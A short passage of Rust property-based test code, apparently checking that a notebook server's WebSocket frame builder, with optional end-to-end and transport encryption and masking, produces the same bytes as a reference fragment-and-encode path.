                Some(mut c) => c.encrypt(&body),
                None => body.clone(),
            };
            let frames = fragment(Opcode::Binary, &plain, 1, masked);
            proptest::prop_assert_eq!(frames.len(), 1);
            let want = NotebookServer::transport_encrypt(&mut transport.clone(), frames[0].encode());
            let mask = masked.then(|| fragment_mask(0));
            let got = ws_frame(mask, e2e, transport.as_mut(), body.len(), |out| {
                out.extend_from_slice(&body)
            });
            proptest::prop_assert_eq!(got, want);
        }
    }
}
